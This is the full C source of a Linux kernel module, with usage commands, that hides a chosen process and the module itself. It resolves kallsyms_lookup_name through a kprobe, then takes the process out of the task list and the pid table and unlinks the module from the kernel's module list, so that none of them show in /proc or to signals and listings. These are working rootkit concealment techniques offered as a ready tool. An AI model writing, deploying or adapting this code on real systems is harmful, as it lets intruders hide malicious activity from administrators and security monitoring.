// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides a process and itself as those do who shall not be found: by taking them
 * out of the kernel's own lists. Nobody in the guest sees them any more; they go
 * on all the same. Writing to the parameters hides and shows, and at its removal
 * all is shown again:
 *
 *	insmod hide.ko pid=PID self=1
 *	echo 0 >/sys/module/hide/parameters/pid
 *	echo 0 >/sys/module/hide/parameters/self
 *	rmmod hide
 */
#include <linux/idr.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

#define ENDBR64		0xfa1e0ff3
#define ENDBR_SIZE	4
#define HIDE_TASKS	1	/* from those who go through all processes */
#define HIDE_PIDS	2	/* from /proc, and from signals */

static int lists = HIDE_TASKS | HIDE_PIDS;
module_param(lists, int, 0644);
MODULE_PARM_DESC(lists, "that the next process leaves: 1 of tasks, 2 of pids");

/* What the kernel has for itself. */
static struct {
	rwlock_t *tasks_lock;
	spinlock_t *pids_lock;	/* of the table of pids */
	struct mutex *modules_lock;	/* of their list */
	struct list_head *modules;
} kernel;

static struct {
	struct task_struct *task;	/* NULL: none */
	struct pid *pid;
	int nr, lists;
} hidden;

static bool self_is_hidden;

/* Of all symbols this one finds the others, and a probe finds it. */
static unsigned long find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long at;

	if (register_kprobe(&probe))
		return 0;
	at = (unsigned long)probe.addr;
	unregister_kprobe(&probe);
	if (*(u32 *)(at - ENDBR_SIZE) == ENDBR64)
		at -= ENDBR_SIZE;
	return at;
}

static int prepare(void)
{
	unsigned long (*lookup)(const char *name);

	if (kernel.modules)
		return 0;
	lookup = (void *)find_lookup();
	if (!lookup)
		return -ENOENT;
	kernel.tasks_lock = (void *)lookup("tasklist_lock");
	kernel.pids_lock = (void *)lookup("pidmap_lock");
	kernel.modules_lock = (void *)lookup("module_mutex");
	if (!kernel.tasks_lock || !kernel.pids_lock || !kernel.modules_lock)
		return -ENOENT;
	kernel.modules = (void *)lookup("modules");
	return kernel.modules ? 0 : -ENOENT;
}

static void set_pid_entry(struct pid *entry)
{
	unsigned long flags;

	spin_lock_irqsave(kernel.pids_lock, flags);
	idr_replace(&init_pid_ns.idr, entry, hidden.nr);
	spin_unlock_irqrestore(kernel.pids_lock, flags);
}

static void show_task(void)
{
	if (!hidden.task)
		return;
	write_lock_irq(kernel.tasks_lock);
	/* What has ended has left all lists. */
	if (pid_alive(hidden.task)) {
		if (hidden.lists & HIDE_TASKS)
			list_add_tail_rcu(&hidden.task->tasks,
					  &init_task.tasks);
		if (hidden.lists & HIDE_PIDS)
			set_pid_entry(hidden.pid);
	}
	write_unlock_irq(kernel.tasks_lock);
	put_task_struct(hidden.task);
	put_pid(hidden.pid);
	hidden.task = NULL;
}

/* Whoever stands on it shall find the way on before it leads to itself. */
static void unlink_task(struct task_struct *task)
{
	write_lock_irq(kernel.tasks_lock);
	if (pid_alive(task))
		__list_del_entry(&task->tasks);
	else
		hidden.lists &= ~HIDE_TASKS;
	write_unlock_irq(kernel.tasks_lock);
	synchronize_rcu();
	if (hidden.lists & HIDE_TASKS)
		INIT_LIST_HEAD(&task->tasks);
}

static int hide_task(int nr)
{
	hidden.pid = find_get_pid(nr);
	hidden.task = get_pid_task(hidden.pid, PIDTYPE_TGID);
	if (!hidden.task) {
		put_pid(hidden.pid);
		return -ESRCH;
	}
	hidden.nr = nr;
	hidden.lists = lists;
	if (hidden.lists & HIDE_TASKS)
		unlink_task(hidden.task);
	if (hidden.lists & HIDE_PIDS)
		set_pid_entry(NULL);
	return 0;
}

static int write_pid(const char *text, const struct kernel_param *param)
{
	int nr, err = kstrtoint(text, 0, &nr);

	if (!err)
		err = prepare();
	if (err)
		return err;
	show_task();
	return nr ? hide_task(nr) : 0;
}

static int read_pid(char *text, const struct kernel_param *param)
{
	return sysfs_emit(text, "%d\n", hidden.task ? hidden.nr : 0);
}

static const struct kernel_param_ops pid_ops = {
	.set = write_pid, .get = read_pid,
};
module_param_cb(pid, &pid_ops, NULL, 0644);
MODULE_PARM_DESC(pid, "process to hide, 0 for none");

static void hide_self(bool hide)
{
	struct list_head *list = &THIS_MODULE->list;

	if (hide == self_is_hidden)
		return;
	mutex_lock(kernel.modules_lock);
	if (hide)
		list_del_rcu(list);
	else
		list_add_rcu(list, kernel.modules);
	mutex_unlock(kernel.modules_lock);
	self_is_hidden = hide;
}

static int write_self(const char *text, const struct kernel_param *param)
{
	bool hide;
	int err = kstrtobool(text, &hide);

	if (!err)
		err = prepare();
	if (!err)
		hide_self(hide);
	return err;
}

static int read_self(char *text, const struct kernel_param *param)
{
	return sysfs_emit(text, "%d\n", self_is_hidden);
}

static const struct kernel_param_ops self_ops = {
	.set = write_self, .get = read_self,
};
module_param_cb(self, &self_ops, NULL, 0644);
MODULE_PARM_DESC(self, "whether this module is hidden");

static int __init hide_init(void)
{
	return 0;
}
module_init(hide_init);

static void __exit hide_exit(void)
{
	show_task();
}
module_exit(hide_exit);

MODULE_DESCRIPTION("Hides a process and itself");
MODULE_LICENSE("GPL");
